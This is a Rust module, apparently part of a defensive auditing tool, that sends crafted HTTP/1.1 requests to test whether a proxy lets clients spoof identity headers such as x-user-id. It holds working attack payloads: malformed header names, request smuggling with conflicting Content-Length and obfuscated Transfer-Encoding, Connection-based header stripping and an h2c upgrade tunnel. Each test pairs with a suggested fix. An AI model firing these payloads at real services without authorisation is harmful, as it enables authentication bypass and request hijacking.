//! The attacks over HTTP/1.1.

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;

use super::Plan;
use super::attack::{Answer, Row, Spoof, attempt, contains, marker, of_proxies, spelled};
use super::http1::{Outcome, Request, conversation, exchange};

const WAY: &str = "HTTP/1.1";
/// What a name may be made of besides letters, digits, `-`, `_` and `.` (RFC 9110 §5.6.2).
const OTHERS: &str = "!#$%&'*+^`|~";

pub(super) fn rows(plan: &Plan) -> Vec<Row> {
    let names = &plan.names;
    let token = plan.token.as_deref();
    let plain = |spoofs: &[Spoof]| with(Request::new(&plan.endpoint, token), spoofs).send(&plan.endpoint);
    let spelling =
        |attack, spell: &dyn Fn(&str) -> String| attempt(WAY, attack, &spelled(names, spell), plain);
    let as_they_are = spelled(names, str::to_owned);
    let mut rows = vec![
        spelling("our names", &str::to_owned),
        spelling("in capitals", &str::to_ascii_uppercase),
        spelling("with `_` for `-`", &|name| changed(name, '_')),
        spelling("with `.` for `-`", &|name| changed(name, '.')),
        spelling("with one `_`", &|name| {
            if name.contains('-') { name.replacen('-', "_", 1) } else { String::new() }
        }),
        attempt(WAY, "with other characters", &with_others(names), plain),
        attempt(WAY, "twice", &as_they_are, |spoofs| {
            let twice: Vec<_> = spoofs.iter().chain(spoofs).cloned().collect();
            plain(&twice)
        }),
        attempt(WAY, "named in Connection", &as_they_are, |spoofs| {
            let request = with(Request::new(&plan.endpoint, token), spoofs);
            let named: Vec<_> = spoofs.iter().map(|spoof| spoof.spelling.as_str()).collect();
            request.field("Connection", &named.join(", ")).send(&plan.endpoint)
        }),
        attempt(WAY, "in trailers", &as_they_are, |spoofs| trailers(plan, spoofs)),
        attempt(WAY, "with a space around the name", &around_names(), |spoofs| spaced(plan, spoofs)),
        attempt(WAY, "behind half a line break", &half_broken(), plain),
        attempt(WAY, "by HTTP/1.0", &as_they_are, |spoofs| {
            let line = format!("GET {} HTTP/1.0", plan.endpoint.target);
            with(Request::with_line(&plan.endpoint, token, &line, ""), spoofs).send(&plan.endpoint)
        }),
        of_proxies(WAY, plain),
        hidden_requests(plan),
        upgrade(plan),
    ];
    if token.is_some() {
        let nobody = |spoofs: &[Spoof]| with(Request::new(&plan.endpoint, None), spoofs).send(&plan.endpoint);
        rows.push(attempt(WAY, "without the token", &as_they_are, nobody));
        rows.push(ours_taken_away(plan));
    }
    rows
}

fn with(request: Request, spoofs: &[Spoof]) -> Request {
    spoofs.iter().fold(request, |request, spoof| request.field(&spoof.spelling, &spoof.marker))
}

/// Empty where it would be the same.
fn changed(name: &str, separator: char) -> String {
    if name.contains('-') { name.replace('-', &separator.to_string()) } else { String::new() }
}

/// One name with each of them, and each name with one of them.
fn with_others(names: &[String]) -> Vec<Spoof> {
    let one = OTHERS.chars().map(|other| changed("x-user-id", other));
    let each = names.iter().zip(OTHERS.chars().cycle()).map(|(name, other)| changed(name, other));
    let mut spellings: Vec<_> = one.chain(each).filter(|spelling| !spelling.is_empty()).collect();
    spellings.sort();
    spellings.dedup();
    spellings.into_iter().map(Spoof::new).collect()
}

/// RFC 9112 §5.1 forbids each of these.
fn around_names() -> Vec<Spoof> {
    let spellings = [
        "x-user-id ",
        "x-user-id\t",
        " x-user-id",
        "\tx-user-id",
        "x-user-id\u{b}",
        "x-user-id\0",
        ":x-user-id",
    ];
    spellings.map(|spelling| Spoof::new(spelling.to_owned())).into()
}

/// A space before a name makes the line a part of the one before it (RFC 9112 §5.2), but for the
/// first line, where it is malformed (§2.2).
fn spaced(plan: &Plan, spoofs: &[Spoof]) -> Outcome {
    let (first, others): (Vec<_>, Vec<_>) =
        spoofs.iter().cloned().partition(|spoof| spoof.spelling.starts_with([' ', '\t']));
    let first: String =
        first.iter().map(|spoof| format!("\r\n{}: {}", spoof.spelling, spoof.marker)).collect();
    let line = format!("GET {} HTTP/1.1{first}", plan.endpoint.target);
    with(Request::with_line(&plan.endpoint, plan.token.as_deref(), &line, "close"), &others)
        .send(&plan.endpoint)
}

/// Behind something that one reader takes for the end of a line, and another does not. Where it was
/// dropped or made a space on the way (RFC 9112 §2.2), one value is left, and nothing is hidden.
fn half_broken() -> Vec<Spoof> {
    let ends = ["\n", "\r", "\0", "\u{b}", "\r\r\n"];
    let spoofs = ends.map(|end| {
        let before = marker();
        let harmless = ["", " "].map(|between| format!("{before}{between}x-user-id")).into();
        Spoof { harmless, ..Spoof::new(format!("X-Prove: {before}{end}x-user-id")) }
    });
    spoofs.into()
}

fn trailers(plan: &Plan, spoofs: &[Spoof]) -> Outcome {
    let mut last = Outcome::Closed;
    for method in ["POST", "GET"] {
        let line = format!("{method} {} HTTP/1.1", plan.endpoint.target);
        let request = Request::with_line(&plan.endpoint, plan.token.as_deref(), &line, "close, TE");
        let names: Vec<_> = spoofs.iter().map(|spoof| spoof.spelling.as_str()).collect();
        let request = request.field("TE", "trailers").field("Trailer", &names.join(", "));
        let mut bytes = request.field("Transfer-Encoding", "chunked").bytes();
        let fields: String =
            spoofs.iter().map(|spoof| format!("{}: {}\r\n", spoof.spelling, spoof.marker)).collect();
        bytes.extend_from_slice(format!("1\r\nx\r\n0\r\n{fields}\r\n").as_bytes());
        last = exchange(&plan.endpoint, &bytes);
        // The route may be for other methods.
        if !matches!(last, Outcome::Answered { status: 404 | 405 | 501, .. }) {
            return last;
        }
    }
    last
}

/// A second request in the body of a first, for servers that disagree where the first ends
/// (RFC 9112 §11.2).
fn hidden_requests(plan: &Plan) -> Row {
    const ATTACK: &str = "a request hidden in a body";
    let token = plan.token.as_deref();
    let line = format!("POST {} HTTP/1.1", plan.endpoint.target);
    let mark = marker();
    let shown = Request::with_line(&plan.endpoint, token, &line, "close").field("Content-Length", "34");
    let mut bytes = shown.bytes();
    bytes.extend_from_slice(mark.as_bytes());
    if exchange(&plan.endpoint, &bytes).shows(&mark) {
        return Row::not_tried(
            WAY,
            ATTACK,
            "the service shows bodies, too: what is hidden there arrives rightly",
        );
    }
    let spoof = Spoof::new("x-user-id".to_owned());
    let hidden =
        Request::with_line(&plan.endpoint, token, &format!("GET {} HTTP/1.1", plan.endpoint.target), "");
    let hidden = hidden.field(&spoof.spelling, &spoof.marker).bytes();
    let follow_up = Request::new(&plan.endpoint, token).bytes();
    let (whole, framings) = (
        hidden.len() + 5,
        [
            "Transfer-Encoding: chunked",
            "Transfer-Encoding : chunked",
            "Transfer-Encoding: xchunked",
            "Transfer-Encoding:\u{b}chunked",
            "Transfer-Encoding: identity, chunked",
        ],
    );
    let mut answer = Answer::Held(None);
    for coding in framings {
        let head = Request::with_line(&plan.endpoint, token, &line, "");
        let mut bytes = head.raw(&format!("Content-Length: {whole}\r\n{coding}\r\n")).bytes();
        bytes.extend_from_slice(b"0\r\n\r\n");
        bytes.extend_from_slice(&hidden);
        bytes.extend_from_slice(&follow_up);
        if conversation(&plan.endpoint, &bytes).shows(&spoof.marker) {
            answer = Answer::Arrived(vec![format!("a request behind `{coding}`")]);
            break;
        }
    }
    let row = Row::new(WAY, ATTACK, answer)
        .mend("two servers in a row disagree about where a request ends; replace the one in front");
    Row { requests: framings.len() + 1, ..row }
}

/// An upgrade that is granted is a tunnel around every later check.
fn upgrade(plan: &Plan) -> Row {
    let request = Request::with_line(
        &plan.endpoint,
        plan.token.as_deref(),
        &format!("GET {} HTTP/1.1", plan.endpoint.target),
        "Upgrade, HTTP2-Settings",
    );
    let request = request.field("Upgrade", "h2c").field("HTTP2-Settings", "AAMAAABkAAQAAP__");
    let answer = match request.send(&plan.endpoint) {
        Outcome::Answered { status: 101, .. } => Answer::Arrived(vec!["an upgrade to h2c".to_owned()]),
        outcome => outcome.unclear().map_or(Answer::Held(None), Answer::Unclear),
    };
    Row::new(WAY, "an upgrade to h2c", answer)
        .mend("through such a tunnel nothing is checked; have the proxy drop `Upgrade: h2c`")
}

/// Names that the client nominates in `Connection` must not take our own headers away: a service
/// may treat somebody who is nobody as somebody else.
fn ours_taken_away(plan: &Plan) -> Row {
    const ATTACK: &str = "ours taken away by Connection";
    let Some(email) = plan.token.as_deref().and_then(email_of).filter(|email| contains(&plan.plain, email))
    else {
        return Row::not_tried(WAY, ATTACK, "the service shows no e-mail address of the token");
    };
    let named = format!("close, {}, {}", plan.names.join(", "), plan.names.join(", ").replace('-', "_"));
    let request = Request::with_line(
        &plan.endpoint,
        plan.token.as_deref(),
        &format!("GET {} HTTP/1.1", plan.endpoint.target),
        &named,
    );
    let answer = match request.send(&plan.endpoint) {
        Outcome::Answered { status: 200..=299, body } if !contains(&body, &email) => {
            Answer::Arrived(vec!["a request without its identity".to_owned()])
        }
        outcome => outcome.unclear().map_or(Answer::Held(None), Answer::Unclear),
    };
    Row::new(WAY, ATTACK, answer)
        .mend("set the identity where nothing drops what Connection names, behind the gateway too")
}

/// What the token says; whether it is good was asked already.
fn email_of(token: &str) -> Option<String> {
    let payload = URL_SAFE_NO_PAD.decode(token.split('.').nth(1)?).ok()?;
    let claims: serde_json::Value = serde_json::from_str(std::str::from_utf8(&payload).ok()?).ok()?;
    Some(claims.get("email")?.as_str()?.to_owned())
}
